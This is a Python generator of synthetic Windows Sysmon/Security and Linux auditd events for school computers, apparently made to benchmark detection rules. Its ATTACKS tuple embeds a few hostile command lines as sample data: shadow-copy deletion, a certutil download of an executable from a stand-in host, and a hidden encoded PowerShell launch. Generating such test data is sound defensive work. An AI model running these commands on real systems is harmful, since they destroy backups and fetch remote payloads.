"""Make everyday events of schools' computers that no rule was tuned on, always with new values.

Windows records come as evtx tools write them (JSON, ``{"Event": …}``), so that our collectors and other tools read the
same; audit records of Linux as auditd writes them. What recurs is the shape, and names as on any installation; paths,
addresses, numbers and ids are new each time. A few hold what attackers do, since a benchmark without a hit says
little about verdicts.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Final

START: Final = datetime(2026, 11, 20, tzinfo=UTC)
SYSMON: Final = "Microsoft-Windows-Sysmon"
PROGRAMS: Final = (
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Program Files\\WPS Office\\{v}\\office6\\wps.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Program Files (x86)\\Seewo\\EasiNote5\\EasiNote5_{v}\\Main\\EasiNote.exe",
    "C:\\Windows\\System32\\conhost.exe",
    "C:\\Program Files (x86)\\Tencent\\WeChat\\WeChat.exe",
    "C:\\Windows\\System32\\taskhostw.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "D:\\软件\\教学平台_{v}\\client.exe",
    "C:\\Windows\\System32\\rundll32.exe",
    "C:\\Users\\{u}\\AppData\\Local\\Temp\\{h}\\setup.exe",
    "C:\\Windows\\System32\\reg.exe",
    "C:\\Windows\\System32\\net.exe",
    "C:\\Windows\\System32\\schtasks.exe",
)
ARGUMENTS: Final = (
    "-k netsvcs -p -s {h}",
    "/factory,{{{g}}} -Embedding",
    "--type=renderer --lang=zh-CN --field-trial-handle={n},{n}",
    '"D:\\课件\\{h}\\第{n}课.pptx"',
    '/c copy "D:\\{h}.docx" \\\\10.{b}.{b}.{b}\\share$\\{u}',
    "0xffffffff -ForceV1",
    "-NoProfile -File C:\\Scripts\\sync-{h}.ps1 -Class {n}",
    "shell32.dll,Control_RunDLL C:\\{h}.cpl,,{n}",
    "query HKLM\\Software\\{h} /v Version",
    "use \\\\10.{b}.{b}.{b}\\homework /persistent:no",
    "/query /tn \\Seewo\\{h}",
    "--silent --log=C:\\ProgramData\\{h}\\install.log",
    "",
    "/prefetch:{n}",
)
ATTACKS: Final = (
    ("C:\\Windows\\System32\\whoami.exe", "whoami /all"),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -urlcache -split -f http://203.0.113.{b}/{h}.exe C:\\{h}.exe",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell -nop -w hidden -enc SQBFAFgAIAAo{h}",
    ),
)
FILES: Final = (
    "C:\\Users\\{u}\\AppData\\Local\\Temp\\{h}.tmp",
    "C:\\Users\\{u}\\Documents\\{h}.docx",
    "C:\\Windows\\Prefetch\\{h}.pf",
    "D:\\成绩\\{n}班_{h}.xlsx",
    "C:\\ProgramData\\{h}\\cache\\{n}.db",
    "C:\\Users\\{u}\\Downloads\\{h}.zip",
)
KEYS: Final = (
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\{h}",
    "HKU\\S-1-5-21-{n}-{n}-{n}-1001\\Software\\{h}\\{n}",
    "HKLM\\System\\CurrentControlSet\\Services\\{h}\\Start",
    "HKU\\S-1-5-21-{n}\\Software\\Kingsoft\\Office\\6.0\\{h}",
)
LIBRARIES: Final = (
    "C:\\Windows\\System32\\{h}.dll",
    "C:\\Windows\\System32\\ntdll.dll",
    "C:\\Windows\\System32\\crypt32.dll",
    "C:\\Program Files\\WPS Office\\{v}\\office6\\{h}.dll",
    "C:\\Windows\\System32\\amsi.dll",
)
NAMES: Final = (
    "{h}.edu.cn",
    "www.zxx.edu.cn",
    "{h}.qq.com",
    "edge{n}.cdn.{h}.net",
    "wpad",
    "{u}-pc.school.local",
)
SCRIPTS: Final = (
    "Get-ChildItem D:\\作业\\{h} | Measure-Object -Sum Length",
    "$list = Import-Csv C:\\{h}.csv; foreach ($row in $list) {{ Write-Output $row.{h} }}",
    'function Get-Class{n} {{ param($id) return Get-Content "C:\\{h}\\$id.txt" }}',
    "New-Object System.Collections.ArrayList; Start-Sleep -Seconds {n}",
)


class Maker:
    """Fill in new values; the same seed makes the same events."""

    def __init__(self, seed: int, start: datetime = START) -> None:
        """Begin with a seed, and when the first event is to have happened."""
        self._random = random.Random(seed)
        self._start = start
        self._number = 0
        self._kinds: tuple[tuple[int, Callable[[], dict[str, object]]], ...] = (
            (18, self._process), (16, self._registry), (16, self._library), (12, self._file), (10, self._connection),
            (8, self._query), (4, self._access), (8, self._logon), (5, self._audited_process), (4, self._share),
            (4, self._script), (2, self._service),
        )  # fmt: skip

    def records(self, count: int) -> Iterator[str]:
        """Yield Windows records as JSON."""
        weights = [weight for weight, _ in self._kinds]
        for _, make in self._random.choices(self._kinds, weights, k=count):
            yield json.dumps({"Event": make()}, ensure_ascii=False)

    def _fill(self, pattern: str) -> str:
        pick = self._random
        return pattern.format(
            h=f"{pick.getrandbits(40):x}",
            n=pick.randrange(1, 99_999),
            b=pick.randrange(1, 255),
            u=f"teacher{pick.randrange(5_000)}",
            v=f"{pick.randrange(10, 13)}.{pick.randrange(9)}.{pick.randrange(30_000)}",
            g=f"{pick.getrandbits(128):032x}",
        )

    def _one(self, patterns: tuple[str, ...]) -> str:
        return self._fill(self._random.choice(patterns))

    def _event(self, channel: str, provider: str, code: int, data: dict[str, object]) -> dict[str, object]:
        self._number += 1
        at = self._start + timedelta(milliseconds=50 * self._number)
        return {
            "System": {
                "Provider": {"#attributes": {"Name": provider}},
                "EventID": code,
                "Level": 4,
                "Task": code,
                "Opcode": 0,
                "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": at.isoformat().replace("+00:00", "Z")}},
                "EventRecordID": self._number,
                "Channel": channel,
                "Computer": f"PC{self._random.randrange(400)}.school.local",
            },
            "EventData": data,
        }

    def _sysmon(self, code: int, **data: object) -> dict[str, object]:
        head = {
            "RuleName": "-",
            "ProcessGuid": self._fill("{{{g}}}"),
            "ProcessId": self._random.randrange(4, 60_000),
        }
        return self._event(f"{SYSMON}/Operational", SYSMON, code, {**head, **data})

    def _user(self) -> str:
        return self._random.choice(("NT AUTHORITY\\SYSTEM", self._fill("SCHOOL\\{u}")))

    def _process(self) -> dict[str, object]:
        image, line = self._one(PROGRAMS), self._one(ARGUMENTS)
        if self._random.randrange(400) == 0:
            image, line = map(self._fill, self._random.choice(ATTACKS))
        else:
            line = f'"{image}" {line}'
        return self._sysmon(
            1,
            Image=image,
            CommandLine=line,
            CurrentDirectory=self._fill("C:\\Users\\{u}\\"),
            User=self._user(),
            OriginalFileName=image.rsplit("\\", 1)[-1],
            Company=self._fill("Company {n}"),
            IntegrityLevel=self._random.choice(("Medium", "High", "System")),
            Hashes=self._fill("SHA256={g}{g},IMPHASH={g}"),
            ParentImage=self._one(PROGRAMS),
            ParentCommandLine=self._one(ARGUMENTS),
        )

    def _registry(self) -> dict[str, object]:
        kind = self._random.choice((12, 13, 13, 13))
        more = {"Details": self._fill("DWORD (0x{h})")} if kind == 13 else {}
        name = "SetValue" if kind == 13 else "CreateKey"
        return self._sysmon(
            kind, EventType=name, Image=self._one(PROGRAMS), TargetObject=self._one(KEYS), **more
        )

    def _library(self) -> dict[str, object]:
        return self._sysmon(
            7,
            Image=self._one(PROGRAMS),
            ImageLoaded=self._one(LIBRARIES),
            Signed=self._random.choice(("true", "true", "false")),
            Signature=self._random.choice(
                ("Microsoft Windows", "Zhuhai Kingsoft Office Software Co., Ltd", "-")
            ),
            SignatureStatus="Valid",
            Hashes=self._fill("SHA256={g}{g},IMPHASH={g}"),
        )

    def _file(self) -> dict[str, object]:
        return self._sysmon(11, Image=self._one(PROGRAMS), TargetFilename=self._one(FILES), User=self._user())

    def _connection(self) -> dict[str, object]:
        return self._sysmon(
            3,
            Image=self._one(PROGRAMS),
            User=self._user(),
            Protocol="tcp",
            Initiated="true",
            SourceIp=self._fill("10.{b}.{b}.{b}"),
            SourcePort=self._random.randrange(49_152, 65_536),
            DestinationIp=self._fill(
                self._random.choice(("203.0.113.{b}", "10.{b}.{b}.{b}", "2001:db8::{b}"))
            ),
            DestinationPort=self._random.choice((80, 443, 443, 53, 445, 8080, 3389)),
            DestinationHostname=self._one(NAMES),
        )

    def _query(self) -> dict[str, object]:
        return self._sysmon(
            22,
            Image=self._one(PROGRAMS),
            QueryName=self._one(NAMES),
            QueryResults=self._fill("10.{b}.{b}.{b};"),
        )

    def _access(self) -> dict[str, object]:
        return self._sysmon(
            10,
            SourceImage=self._one(PROGRAMS),
            TargetImage=self._one(PROGRAMS),
            GrantedAccess=self._random.choice(("0x1000", "0x1400", "0x1fffff")),
            CallTrace=self._fill(
                "C:\\Windows\\SYSTEM32\\ntdll.dll+{h}|C:\\Windows\\System32\\KERNELBASE.dll+{h}"
            ),
        )

    def _security(self, code: int, **data: object) -> dict[str, object]:
        return self._event("Security", "Microsoft-Windows-Security-Auditing", code, data)

    def _logon(self) -> dict[str, object]:
        return self._security(
            self._random.choice((4624, 4624, 4634, 4672, 4625)),
            TargetUserName=self._fill("{u}"),
            TargetDomainName="SCHOOL",
            TargetLogonId=self._fill("0x{h}"),
            LogonType=self._random.choice(("3", "2", "5")),
            IpAddress=self._fill("10.{b}.{b}.{b}"),
            IpPort=str(self._random.randrange(49_152, 65_536)),
            WorkstationName=self._fill("PC{n}"),
            AuthenticationPackageName="Kerberos",
        )

    def _audited_process(self) -> dict[str, object]:
        image = self._one(PROGRAMS)
        return self._security(
            4688,
            SubjectUserName=self._fill("{u}"),
            NewProcessId=self._fill("0x{h}"),
            NewProcessName=image,
            CommandLine=f'"{image}" {self._one(ARGUMENTS)}',
            ParentProcessName=self._one(PROGRAMS),
        )

    def _share(self) -> dict[str, object]:
        return self._security(
            5145,
            SubjectUserName=self._fill("{u}"),
            IpAddress=self._fill("10.{b}.{b}.{b}"),
            ShareName="\\\\*\\homework",
            RelativeTargetName=self._fill("{n}班\\{h}.docx"),
            AccessMask="0x120089",
        )

    def _script(self) -> dict[str, object]:
        text = self._one(SCRIPTS)
        return self._event(
            "Microsoft-Windows-PowerShell/Operational",
            "Microsoft-Windows-PowerShell",
            4104,
            {
                "MessageNumber": 1,
                "MessageTotal": 1,
                "ScriptBlockText": text,
                "ScriptBlockId": self._fill("{g}"),
            },
        )

    def _service(self) -> dict[str, object]:
        return self._event(
            "System",
            "Service Control Manager",
            self._random.choice((7036, 7045)),
            {
                "ServiceName": self._fill("Updater {h}"),
                "ImagePath": self._one(PROGRAMS),
                "StartType": "auto start",
            },
        )


def audit_lines(count: int, seed: int) -> Iterator[str]:
    """Yield records of Linux' audit system: processes started, files touched, logins."""
    pick = random.Random(seed)
    programs = ("ls", "cat", "python3", "nginx", "sshd", "cron", "bash", "apt-get", "tar", "wget")
    for number in range(count):
        at = f"{1_795_521_600 + number // 20}.{number % 20 * 50:03d}:{number + 1}"
        name, word = pick.choice(programs), f"{pick.getrandbits(40):x}"
        head = f"ppid={pick.randrange(9_999)} pid={pick.randrange(99_999)} uid={pick.choice((0, 33, 1_000))}"
        yield (
            f"type=SYSCALL msg=audit({at}): arch=c000003e syscall=59 success=yes exit=0 {head} "
            f'comm="{name}" exe="/usr/bin/{name}" key="exec"'
        )
        yield f'type=EXECVE msg=audit({at}): argc=3 a0="{name}" a1="-{word[:1]}" a2="/srv/www/{word}"'
